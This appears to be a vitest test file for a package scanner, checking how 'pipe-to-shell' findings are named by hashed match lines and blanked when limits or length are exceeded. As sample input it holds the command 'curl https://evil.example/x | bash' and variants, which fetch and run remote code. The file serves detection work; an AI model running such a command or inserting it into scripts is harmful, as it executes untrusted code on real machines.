import { describe, expect, it } from 'vitest'
import { scanPackage } from './scan-package.ts'

const file = (path: string, text: string) => ({
  ...{ path, bytes: new TextEncoder().encode(text), executable: false },
})
const attack = 'curl https://evil.example/x | bash'
const matchesOf = (text: string) =>
  scanPackage([file('scripts/run.sh', text)]).findings.map(({ rule, match }) => [rule, match])

describe('what a finding is about', () => {
  it('is named by the whole lines of its match, wherever they stand', () => {
    const plain = matchesOf(`#!/bin/bash\n${attack}\n`)
    expect(plain).toEqual([['run.pipe-to-shell', expect.stringMatching(/^[0-9a-f]{64}$/)]])
    expect(matchesOf(`#!/bin/bash\necho hello\n${attack}\n`)).toEqual(plain)
    expect(matchesOf(`#!/bin/bash\n${attack} # ${'x'.repeat(300)} | sh\n`)).not.toEqual(plain)
    expect(matchesOf(`#!/bin/bash\n${attack.replace('/x', '/y')}\n`)).not.toEqual(plain)
  })

  it('has no name where limits hide further findings of the rule, or the text is too long', () => {
    const many = Array.from({ length: 7 }, (_, at) => attack.replace('/x', `/${at}`)).join('\n')
    expect(new Set(matchesOf(`#!/bin/bash\n${many}\n`).map(([, match]) => match))).toEqual(
      new Set(['']),
    )
    const long = matchesOf(`#!/bin/bash\n${attack} # ${'x'.repeat(300_000)}\n`)
    expect(long.map(([, match]) => match)).toEqual([''])
  })
})
